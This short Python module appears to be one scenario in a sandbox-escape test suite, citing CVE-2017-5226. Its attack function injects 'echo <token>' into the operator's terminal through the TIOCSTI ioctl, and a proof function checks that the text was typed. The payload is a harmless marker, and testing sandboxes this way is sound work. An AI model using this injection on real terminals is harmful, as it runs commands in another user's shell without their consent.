"""Type a command into the operator's terminal."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "CVE-2017-5226: a program in bubblewrap typed into its terminal (TIOCSTI)"
ONE_STEP = True


def attack(given: Given) -> object:
    import fcntl
    import os
    import termios

    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in f"echo {given.token}\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
    return "typed"


def proof(scene: Scene) -> str | None:
    if scene.token.encode() in scene.terminal.typed():
        return "the operator's shell would carry out a command of the script's"
    return None
